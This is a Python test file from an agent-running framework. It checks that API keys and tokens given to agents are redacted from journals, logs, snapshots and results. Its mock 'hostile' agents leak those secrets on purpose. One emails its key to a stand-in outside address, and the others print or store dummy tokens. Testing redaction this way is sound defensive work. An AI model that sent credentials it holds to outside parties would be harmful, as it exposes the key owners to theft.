"""Secrets given to agents never appear in any output file."""

from __future__ import annotations

import asyncio
import base64
import json
import re
from pathlib import Path
from typing import Any

from terrarium.core.agent import Reply
from terrarium.core.tool import ToolCall
from terrarium.run.config import AgentConfig, JobConfig, TaskConfig
from terrarium.run.job import Job
from tests.journeys.test_hostile_agent import TASK, Hostile, think

SECRET = "sk-test-4d1c0ffee"


class Keyed(Hostile):
    """An agent that was given a key."""

    def __init__(self, api_key: str) -> None:
        self.api_key = api_key

    async def act(self, instruction: Any, seat: Any, resumed: bool = False) -> Reply:
        await think(seat)
        mail = {"to": ["eve@x.example"], "subject": self.api_key, "body": f"my key: {self.api_key}"}
        assert (await seat.call(ToolCall("email_send", mail))).error is None
        if len(seat.messages) > 6:
            raise RuntimeError(f"could not use {self.api_key}")
        return Reply.say(f"my key is {self.api_key}")


def test_a_key_in_the_settings_of_an_agent_is_written_nowhere(tmp_path, monkeypatch):
    (tmp_path / "task.py").write_text(TASK)
    root = Path(__file__).parents[2]
    monkeypatch.setenv("PYTHONPATH", str(root))
    config = JobConfig(
        agents=(AgentConfig(name="keyed", import_path=f"{__name__}:Keyed", kwargs={"api_key": SECRET}),),
        tasks=(TaskConfig(path=str(tmp_path / "task.py")),),
        job_dir=str(tmp_path / "run"),
    )
    result = asyncio.run(Job(config).run())
    assert [one.verdict.reward for one in result.results] == [1.0], [one.error for one in result.results]
    assert any(b"my key: [secret]" in path.read_bytes() for path in (tmp_path / "run").rglob("journal.jsonl"))
    for path in (tmp_path / "run").rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


TELLS = '''
from terrarium import entry, run_checkers

def look_up(what: str) -> str:
    """Look something up."""
    return "found: sk-list-one-111111"

@entry()
def program(env, agent):
    agent.register_tools(look_up)
    agent.act("Look it up.")
    print("the task says sk-list-two-222222")
    agent.act("Again.")
    return run_checkers({"fine": lambda: True})
'''

MANY = {
    "api_keys": ["sk-list-one-111111", "sk-list-two-222222"],
    "accessToken": "tok-333333",
    "headers": {"Authorization": "Bearer tok-444444"},
    "pwd": "tok-555555",
    "base_url": "https://me:tok-666666@host.example/v1",
}
SAID = ("111111", "222222", "tok-333333", "tok-444444", "tok-555555", "tok-666666")


class Talkative(Hostile):
    """An agent that prints and remembers what it was given."""

    def __init__(self, **settings: Any) -> None:
        self.settings = settings
        self.memory = b""

    async def act(self, instruction: Any, seat: Any, resumed: bool = False) -> Reply:
        print(f"I was given {json.dumps(self.settings)}", flush=True)
        await think(seat)
        found = await seat.call(ToolCall("look_up", {"what": "a key"}))
        self.memory = json.dumps([self.settings, str(found.value)]).encode()
        return Reply.say("done")

    def save(self) -> bytes:
        return self.memory

    def load(self, memory: bytes) -> None:
        self.memory = memory


def test_keys_in_lists_headers_and_addresses_are_in_no_log_snapshot_or_result(tmp_path, monkeypatch):
    (tmp_path / "task.py").write_text(TELLS)
    monkeypatch.setenv("PYTHONPATH", str(Path(__file__).parents[2]))
    config = JobConfig(
        agents=(AgentConfig(name="talkative", import_path=f"{__name__}:Talkative", kwargs=MANY),),
        tasks=(TaskConfig(path=str(tmp_path / "task.py")),),
        job_dir=str(tmp_path / "run"),
        snapshot="every-turn",
        baseline=False,
    )
    result = asyncio.run(Job(config).run())
    assert [one.verdict.reward for one in result.results] == [1.0], [one.error for one in result.results]
    log = (tmp_path / "run" / "workers.log").read_text()
    tag = f"[{result.results[0].trial.id[:8]}]"
    assert f'{tag} I was given {{"api_keys": ["[secret]", "[secret]"]' in log
    assert f"{tag} the task says [secret]" in log
    memories = 0
    for path in (tmp_path / "run").rglob("*"):
        content = path.read_bytes() if path.is_file() else b""
        inside = [base64.b64decode(found) for found in re.findall(rb'"\$bytes": ?"([^"]*)"', content)]
        memories += sum(b"look_up" in data or b"accessToken" in data for data in inside)
        for secret in SAID:
            assert not any(secret.encode() in data for data in [content, *inside]), (path, secret)
    assert memories
